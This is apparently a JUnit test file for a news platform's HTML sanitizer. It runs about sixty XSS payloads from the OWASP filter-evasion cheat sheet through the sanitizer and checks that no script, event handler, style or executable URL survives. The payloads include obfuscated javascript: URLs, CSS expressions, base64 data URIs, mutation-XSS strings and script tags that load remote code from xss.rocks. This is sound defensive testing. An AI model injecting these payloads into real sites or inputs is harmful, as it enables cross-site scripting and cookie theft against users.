package news.ticker.platform.html;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Locale;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The allow-list against the OWASP XSS Filter Evasion Cheat Sheet: whatever the encoding trick, no
 * script, event handler, style or dangerous URL survives, and what newsrooms write stays.
 */
class HtmlSanitizerTest {

  /** A representative set of the cheat sheet's vectors, plus mutation-XSS classics. */
  static Stream<String> owaspVectors() {
    return Stream.of(
        "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
        "javascript:/*--></title></style></textarea></script></xmp>"
            + "<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
        "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
        "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
        "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
        "<IMG SRC=# onmouseover=\"alert('xxs')\">",
        "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
        "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114"
            + "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116"
            + "&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;"
            + "&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
        "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72"
            + "&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
        "<IMG SRC=\"jav\tascript:alert('XSS');\">",
        "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
        "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
        "<a href=\"jav&#x09;ascript:alert('XSS')\">klik</a>",
        "<a href=\"&#x6A;avascript:alert(1)\">klik</a>",
        "<a href=\"javascript&colon;alert(1)\">klik</a>",
        "<a href=\"  javascript:alert(1)\">klik</a>",
        "<IMG SRC=java\u0000script:alert(\"XSS\")>",
        "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
        "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
        "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
        "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
        "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
        "<iframe src=http://xss.rocks/scriptlet.html <",
        "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
        "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
        "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
        "<BODY ONLOAD=alert('XSS')>",
        "<svg/onload=alert('XSS')>",
        "<IMG DYNSRC=\"javascript:alert('XSS')\">",
        "<IMG LOWSRC=\"javascript:alert('XSS')\">",
        "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
        "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
        "<BGSOUND SRC=\"javascript:alert('XSS');\">",
        "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
        "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
        "<META HTTP-EQUIV=\"Link\" Content=\"<http://xss.rocks/xss.css>; REL=stylesheet\">",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,"
            + "PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
        "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
        "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
        "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
        "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
        "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
        "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061"
            + "\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028"
            + ".1027\\0058.1053\\0053\\0027\\0029'\\0029\">",
        "<DIV STYLE=\"width: expression(alert('XSS'));\">",
        "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
        "<XSS STYLE=\"behavior: url(xss.htc);\">",
        "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
        "<BASE HREF=\"javascript:alert('XSS');//\">",
        "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
        "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwM"
            + "DAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv\" type=\"image/svg+xml\""
            + " AllowScriptAccess=\"always\"></EMBED>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">klik</a>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<form action=\"javascript:alert(1)\"><button>klik</button></form>",
        "<details open ontoggle=alert(1)>",
        "<blockquote cite=\"javascript:alert(1)\">citaat</blockquote>",
        "<figure data-embed=\"youtube\" data-id=\"x\" onclick=\"alert(1)\"></figure>");
  }

  @ParameterizedTest
  @MethodSource("owaspVectors")
  void noVectorSurvives(String vector) {
    String clean = HtmlSanitizer.sanitize(vector);

    assertThat(clean.toLowerCase(Locale.ROOT))
        .doesNotContain("<script", "<style", "<iframe", "<svg", "<math", "<meta", "<link")
        .doesNotContain("<object", "<embed", "<base", "<frame", "<form", "<input", "<body");
    // Parsed again, as a browser would: no handler, no style, no executable URL anywhere.
    Document reparsed = Jsoup.parseBodyFragment(clean);
    for (Element element : reparsed.body().getAllElements()) {
      for (Attribute attribute : element.attributes()) {
        String name = attribute.getKey().toLowerCase(Locale.ROOT);
        assertThat(name).as(clean).doesNotStartWith("on").isNotEqualTo("style");
        String value =
            attribute.getValue().replaceAll("[\\s\\p{Cntrl}]", "").toLowerCase(Locale.ROOT);
        assertThat(value)
            .as(clean)
            .doesNotStartWith("javascript:")
            .doesNotStartWith("vbscript:")
            .doesNotStartWith("data:");
      }
    }
  }

  @Test
  void keepsWhatNewsroomsWrite() {
    String html =
        "<h2>Uitslag</h2><p>De <strong>MFK</strong> wint, <em>meldt</em> "
            + "<a href=\"https://nos.nl/a\">NOS</a>.</p><ul><li>een</li></ul>"
            + "<blockquote cite=\"https://x.example\">“Citaat”</blockquote>"
            + "<img src=\"https://x.example/foto.jpg\" alt=\"Stembureau\">";

    String clean = HtmlSanitizer.sanitize(html);

    assertThat(clean)
        .contains("<h2>Uitslag</h2>", "<strong>MFK</strong>", "<em>meldt</em>", "<li>een</li>")
        .contains("<a href=\"https://nos.nl/a\" rel=\"noopener noreferrer nofollow\">NOS</a>")
        .contains("<blockquote cite=\"https://x.example\">“Citaat”</blockquote>")
        .contains("<img src=\"https://x.example/foto.jpg\" alt=\"Stembureau\">");
  }

  @Test
  void knownPlayersBecomeEmbedFiguresAndOtherIframesVanish() {
    assertThat(
            HtmlSanitizer.sanitize(
                "<iframe src=\"https://www.youtube.com/embed/dQw4w9WgXcQ\"></iframe>"
                    + "<iframe src=\"https://evil.example/x\"></iframe>"))
        .isEqualTo("<figure data-embed=\"youtube\" data-id=\"dQw4w9WgXcQ\"></figure>");
    assertThat(HtmlSanitizer.sanitize("<figure data-embed=\"myspace\" data-id=\"1\"></figure>"))
        .isEqualTo("<figure></figure>");
  }

  @Test
  void unicodeIsKeptIntactAndControlCharactersGo() {
    String text = "“Oekraïne” — مرحبا بالعالم — שלום עולם — 🇺🇦👍🏽";
    assertThat(HtmlSanitizer.sanitize("<p>" + text + "\u0000\u0007</p>"))
        .isEqualTo("<p>" + text + "</p>");
    assertThat(HtmlSanitizer.plainText("<b>" + text + "</b>\u0000")).isEqualTo(text);
  }

  @Test
  void aBodyWithOnlyScriptsHasNoContent() {
    assertThat(HtmlSanitizer.hasContent(HtmlSanitizer.sanitize("<script>alert(1)</script>")))
        .isFalse();
    assertThat(HtmlSanitizer.hasContent(HtmlSanitizer.sanitize("<p> </p><style>p{}</style>")))
        .isFalse();
    assertThat(HtmlSanitizer.hasContent(HtmlSanitizer.sanitize("<img src=\"https://x/y.jpg\">")))
        .isTrue();
  }
}
